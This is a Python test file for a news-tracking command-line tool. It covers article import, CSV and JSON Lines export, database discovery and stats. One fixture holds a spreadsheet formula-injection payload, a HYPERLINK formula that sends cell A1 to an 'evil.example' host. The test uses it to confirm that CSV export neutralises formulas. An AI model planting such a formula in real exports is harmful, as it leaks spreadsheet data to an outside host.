"""`tracker import`, `tracker export`, `tracker stats`, and how every command finds its database."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any, Callable

import pytest
from click.testing import CliRunner, Result

from tracker.cli import main

GIVEN = "seeds/given/000_41a8f4ef254bfa53.txt"
SCMP = ("https://www.scmp.com/tech/article/3112836/facial-recognition-toilet-paper-dispensers-"
        "china-put-hold-privacy-concerns")
TNW = ("https://thenextweb.com/neural/2020/12/11/privacy-advocates-poop-on-uk-supermarkets-facial-"
       "recognition-system/")


def write_jsonl(path: Path, lines: list[Any]) -> Path:
    """Write lines to a JSONL file: dicts and lists as JSON, strings as they are."""
    path.write_text("".join((line if isinstance(line, str) else json.dumps(line)) + "\n"
                            for line in lines), encoding="utf-8")
    return path


def invoke(runner: CliRunner, db_path: Path, *args: str) -> Result:
    return runner.invoke(main, [*args, "--db", str(db_path)])


# --- Import ---------------------------------------------------------------------------------------

def test_import_keeps_good_lines_and_reports_bad_ones_by_line(
        runner: CliRunner, db_path: Path, tmp_path: Path, rows: Callable[..., Any]) -> None:
    path = write_jsonl(tmp_path / "articles.jsonl", [
        {"url": "https://www.example.com/a.html?utm_source=feed", "title": "CNIL fines Parcelis",
         "text": "First paragraph.\n\nSecond paragraph.", "published": "2021-01-05T10:00:00+01:00",
         "publisher": "Example News", "id": "ext-1"},
        "",
        "{not json",
        {"title": "no url here"},
        {"url": "ftp://example.com/a.txt", "title": "wrong scheme"},
        ["https://www.example.com/list.html"],
        {"url": "https://www.example.com/b.html", "published": "the day after tomorrow-ish"},
        {"url": "https://www.example.com/c.html", "title": {"text": "a mapping"}},
        {"url": "https://www.example.com/d.html", "id": 42},
    ])
    result = invoke(runner, db_path, "import", str(path))
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert [re.match(rf"Error: {re.escape(str(path))}:(\d+): ", e).group(1) for e in errors] == [
        "3", "4", "5", "6", "7", "8"]
    assert "url: missing" in errors[1] and "url:" in errors[2] and "published:" in errors[4]
    assert "title:" in errors[5]
    assert "8 lines: 2 saved (2 new articles), 6 errors" in result.stdout
    assert rows(db_path, "SELECT url, title, text, published, publisher, external_id FROM articles "
                         "ORDER BY url") == [
        ("https://www.example.com/a.html", "CNIL fines Parcelis", "First paragraph.\n\nSecond paragraph.",
         "2021-01-05T09:00:00Z", "Example News", "ext-1"),
        ("https://www.example.com/d.html", None, None, None, None, "42"),
    ]


def test_import_of_an_amp_url_lands_on_the_seeded_article(
        runner: CliRunner, db_path: Path, tmp_path: Path, shared_dir: Path,
        rows: Callable[..., Any], dump_db: Callable[[Path], Any]) -> None:
    assert invoke(runner, db_path, "seeds", "load", str(shared_dir / GIVEN)).exit_code == 0
    path = write_jsonl(tmp_path / "amp.jsonl", [
        {"url": SCMP.replace("www.scmp.com", "amp.scmp.com") + "?utm_source=twitter", "id": "scmp-1",
         "text": "Toilet paper dispensers with facial recognition were suspended."},
        {"url": "https://thenextweb-com.cdn.ampproject.org/c/s/" + TNW[len("https://"):] + "amp/",
         "id": "tnw-1", "title": "Privacy advocates poop on UK supermarket's face scanning"},
    ])
    result = invoke(runner, db_path, "import", str(path))
    assert result.exit_code == 0, result.output
    assert "2 saved (0 new articles)" in result.stdout
    assert rows(db_path, "SELECT COUNT(*) FROM articles") == [(7,)]
    assert rows(db_path, "SELECT external_id, title, text FROM articles WHERE url = ?", (SCMP,)) == [
        ("scmp-1", "Facial recognition toilet paper dispensers in China put on hold as privacy "
                   "concerns grow", "Toilet paper dispensers with facial recognition were suspended.")]
    # an import is a better source than a seed: its title wins
    assert rows(db_path, "SELECT external_id, title FROM articles WHERE url = ?", (TNW,)) == [
        ("tnw-1", "Privacy advocates poop on UK supermarket's face scanning")]
    before = dump_db(db_path)
    assert invoke(runner, db_path, "import", str(path)).exit_code == 0
    assert dump_db(db_path) == before  # importing again changes nothing


# --- Export ---------------------------------------------------------------------------------------

N_ROWS = 1234


@pytest.fixture
def big_db(runner: CliRunner, db_path: Path, tmp_path: Path) -> Path:
    """A database with N_ROWS articles whose titles need CSV quoting."""
    lines = [{"url": f"https://news{i % 7}.example.com/story/{i}.html", "id": f"ext-{i}",
              "title": f'Story {i}, "quoted", naïve café', "text": f"Line one of {i}.\nLine two.",
              "publisher": f"Outlet {i % 7}", "published": f"2021-01-{1 + i % 28:02d}T12:00:00Z"}
             for i in range(N_ROWS)]
    result = invoke(runner, db_path, "import", str(write_jsonl(tmp_path / "big.jsonl", lines)))
    assert result.exit_code == 0, result.output
    return db_path


def _check_articles_csv(text: str) -> None:
    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == N_ROWS
    assert {"url", "title", "publisher", "published", "text", "external_id"} <= set(records[0])
    assert {r["external_id"] for r in records} == {f"ext-{i}" for i in range(N_ROWS)}
    last = next(r for r in records if r["external_id"] == f"ext-{N_ROWS - 1}")
    assert last["title"] == f'Story {N_ROWS - 1}, "quoted", naïve café'
    assert last["text"] == f"Line one of {N_ROWS - 1}.\nLine two."
    assert last["url"] == f"https://news{(N_ROWS - 1) % 7}.example.com/story/{N_ROWS - 1}.html"


def _check_articles_jsonl(text: str) -> None:
    records = [json.loads(line) for line in text.splitlines()]
    assert len(records) == N_ROWS
    assert [r["external_id"] for r in records] == [f"ext-{i}" for i in range(N_ROWS)]  # by id
    assert records[500]["title"] == 'Story 500, "quoted", naïve café'
    assert records[500]["published"] == "2021-01-25T12:00:00Z"


def test_export_every_row_to_stdout(runner: CliRunner, big_db: Path) -> None:
    as_csv = invoke(runner, big_db, "export", "articles", "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    _check_articles_csv(as_csv.stdout)
    as_jsonl = invoke(runner, big_db, "export", "articles", "--format", "jsonl")
    assert as_jsonl.exit_code == 0, as_jsonl.output
    _check_articles_jsonl(as_jsonl.stdout)


def test_export_every_row_to_a_file(runner: CliRunner, big_db: Path, tmp_path: Path) -> None:
    for fmt, check in (("csv", _check_articles_csv), ("jsonl", _check_articles_jsonl)):
        out = tmp_path / f"out.{fmt}"
        result = invoke(runner, big_db, "export", "articles", "--format", fmt, "-o", str(out))
        assert result.exit_code == 0, result.output
        assert result.stdout == ""
        assert f"{N_ROWS} rows written to {out}" in result.stderr
        check(out.read_text(encoding="utf-8"))


@pytest.mark.parametrize("what", ["articles", "fetches", "clusters", "stories"])
def test_export_of_an_empty_table(what: str, runner: CliRunner, db_path: Path, tmp_path: Path) -> None:
    assert invoke(runner, db_path, "stats").exit_code != 0  # no database yet
    assert not db_path.exists()
    seed = tmp_path / "no-seeds"
    seed.mkdir()
    assert invoke(runner, db_path, "seeds", "load", str(seed)).exit_code == 0  # creates the db
    as_csv = invoke(runner, db_path, "export", what, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    lines = as_csv.stdout.splitlines()
    assert len(lines) == 1 and lines[0].count(",") >= 4  # the header only
    if what == "articles":
        assert {"url", "title", "publisher", "published", "text", "external_id"} <= set(lines[0].split(","))
    as_jsonl = invoke(runner, db_path, "export", what, "--format", "jsonl")
    assert as_jsonl.exit_code == 0 and as_jsonl.stdout == ""


def test_export_needs_an_existing_database(runner: CliRunner, db_path: Path) -> None:
    result = invoke(runner, db_path, "export", "articles")
    assert result.exit_code != 0
    assert str(db_path) in result.stderr and "no such database" in result.stderr
    assert not db_path.exists()


# --- Finding the database, stats ------------------------------------------------------------------

def test_db_option_env_and_default(runner: CliRunner, tmp_path: Path, shared_dir: Path,
                                   monkeypatch: pytest.MonkeyPatch, rows: Callable[..., Any]) -> None:
    given = str(shared_dir / GIVEN)
    monkeypatch.chdir(tmp_path)
    assert runner.invoke(main, ["seeds", "load", given]).exit_code == 0
    assert rows(tmp_path / "data" / "tracker.db", "SELECT COUNT(*) FROM articles") == [(7,)]

    env_db, flag_db = tmp_path / "env" / "t.db", tmp_path / "flag.db"
    monkeypatch.setenv("TRACKER_DB", str(env_db))
    assert runner.invoke(main, ["seeds", "load", given]).exit_code == 0
    assert rows(env_db, "SELECT COUNT(*) FROM relations") == [(6,)]
    assert runner.invoke(main, ["seeds", "load", given, "--db", str(flag_db)]).exit_code == 0
    assert rows(flag_db, "SELECT COUNT(*) FROM articles") == [(7,)]
    # env and flag are honoured by the reading commands too
    stats = runner.invoke(main, ["stats"])
    assert re.search(r"^relations\s+6$", stats.stdout, re.M)
    exported = runner.invoke(main, ["export", "articles", "--format", "jsonl", "--db", str(flag_db)])
    assert len(exported.stdout.splitlines()) == 7
    monkeypatch.delenv("TRACKER_DB")
    assert runner.invoke(main, ["stats", "--db", str(tmp_path / "missing.db")]).exit_code != 0
    # the default database was never touched by the later loads
    assert rows(tmp_path / "data" / "tracker.db", "SELECT COUNT(*) FROM seed_files") == [(1,)]


def test_stats_prints_counts(runner: CliRunner, db_path: Path, shared_dir: Path) -> None:
    assert invoke(runner, db_path, "seeds", "load", str(shared_dir / GIVEN)).exit_code == 0
    result = invoke(runner, db_path, "stats")
    assert result.exit_code == 0, result.output
    counts = dict(re.findall(r"^(\S+)\s+(\d+)$", result.stdout, re.M))
    assert counts["articles"] == "7" and counts["relations"] == "6"
    assert counts["seed_files"] == "1" and counts["fetches"] == "0"
    assert counts["urls"] == "11"  # 3 aliases for SCMP, 3 for TNW, 1 each for the other 5
    assert counts["articles.status=new"] == "7"
    assert counts["urls.kind=web"] == "7" and counts["urls.kind=amp"] == "2"
    assert counts["urls.kind=cdn_amp"] == "2"


# --- Exports for reports: filters, spreadsheets ------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture()
def story_db(db_path: Path) -> Path:
    """Two stories: 1 (facial recognition, two outlets, one title a formula) and 2 (cookies)."""
    from tracker.store import open_db

    db = open_db(db_path)
    db.conn.executemany(
        "INSERT INTO clusters (id, headline, first_seen, last_seen, n_articles, n_publishers, "
        "publishers) VALUES (?, ?, ?, ?, ?, ?, ?)",
        [(1, "Police trial facial recognition", "2024-01-02T08:00:00Z", "2024-02-01T09:00:00Z", 2, 2,
          json.dumps(["BBC News", "Café Müller"])),
         (2, "Cookie banners fined", "2023-06-01T00:00:00Z", "2023-06-01T00:00:00Z", 1, 1,
          json.dumps(["Wired"]))])
    db.conn.executemany(
        "INSERT INTO articles (id, url, title, excerpt, text, published, publisher, topics, "
        "cluster_id, status, first_seen) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, 'fetched', '2024-03-01T00:00:00Z')",
        [(1, "https://bbc.example/1", "Police trial facial recognition", "Cameras in London",
          "Live facial recognition cameras", "2024-01-02T08:00:00Z", "BBC News",
          json.dumps(["Privacy", "Policing"]), 1),
         (2, "https://cafe.example/2", FORMULA, "-5 is not a formula; @ is", "more facial recognition",
          "2024-02-01T09:00:00Z", "Café Müller", None, 1),
         (3, "https://wired.example/3", "Cookie banners fined", "CNIL fines", "consent and cookies",
          "2023-06-01T00:00:00Z", "Wired", None, 2)])
    db.conn.close()
    return db_path


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_export_filters_by_story_search_and_date(runner: CliRunner, story_db: Path) -> None:
    def ids(*args: str, key: str = "article_id") -> list[str]:
        result = invoke(runner, story_db, "export", *args)
        assert result.exit_code == 0, result.output
        return [row[key] for row in _csv(result.stdout)]

    assert ids("clusters") == ["1", "2", "3"]
    assert ids("clusters", "--story", "1") == ["1", "2"]
    assert ids("articles", "--search", "facial recognition", key="id") == ["1", "2"]
    assert ids("articles", "--search", "recognition facial", key="id") == []  # a phrase
    assert ids("articles", "--search", "cookies OR London", key="id") == ["1", "3"]
    assert ids("articles", "--since", "2024-01-15", key="id") == ["2"]
    assert ids("stories", "--search", "consent", key="id") == ["2"]
    assert ids("stories", "--since", "2024-01-01", key="id") == ["1"]
    assert ids("clusters", "--story", "1", "--since", "2024-01-15") == ["2"]
    bad = invoke(runner, story_db, "export", "articles", "--since", "last tuesday-ish")
    assert bad.exit_code == 1 and "--since 'last tuesday-ish': not a date" in bad.stderr


def test_export_clusters_and_stories_carry_headline_and_excerpt(runner: CliRunner, story_db: Path) -> None:
    clusters = _csv(invoke(runner, story_db, "export", "clusters", "--story", "1").stdout)
    assert clusters[0]["story_headline"] == "Police trial facial recognition"
    assert clusters[0]["excerpt"] == "Cameras in London"
    stories = _csv(invoke(runner, story_db, "export", "stories").stdout)
    assert [s["excerpt"] for s in stories] == ["CNIL fines", "Cameras in London"]


def test_export_lists_as_text_in_csv_and_json_in_jsonl(runner: CliRunner, story_db: Path) -> None:
    stories = _csv(invoke(runner, story_db, "export", "stories", "--story", "1").stdout)
    assert stories[0]["publishers"] == "BBC News; Café Müller"
    articles = _csv(invoke(runner, story_db, "export", "articles", "--story", "1").stdout)
    assert articles[0]["topics"] == "Privacy; Policing"
    lines = invoke(runner, story_db, "export", "stories", "--story", "1", "--format", "jsonl").stdout
    assert json.loads(lines)["publishers"] == ["BBC News", "Café Müller"]


def test_export_csv_neutralises_formulas_unless_raw(runner: CliRunner, story_db: Path) -> None:
    safe = {r["id"]: r for r in _csv(invoke(runner, story_db, "export", "articles").stdout)}
    assert safe["2"]["title"] == "'" + FORMULA
    assert safe["2"]["excerpt"] == "'-5 is not a formula; @ is"  # a cell, not a number
    assert safe["1"]["title"] == "Police trial facial recognition"
    raw = {r["id"]: r for r in _csv(invoke(runner, story_db, "export", "articles", "--raw").stdout)}
    assert raw["2"]["title"] == FORMULA
    jsonl = invoke(runner, story_db, "export", "articles", "--format", "jsonl").stdout
    assert json.loads(jsonl.splitlines()[1])["title"] == FORMULA  # JSON Lines stay as stored


def test_export_for_excel_starts_with_a_bom(runner: CliRunner, story_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "stories.csv"
    assert invoke(runner, story_db, "export", "stories", "--excel", "-o", str(out)).exit_code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,headline,")
    assert "Café Müller" in data.decode("utf-8")
    plain = invoke(runner, story_db, "export", "stories").stdout
    assert plain.startswith("id,headline,")
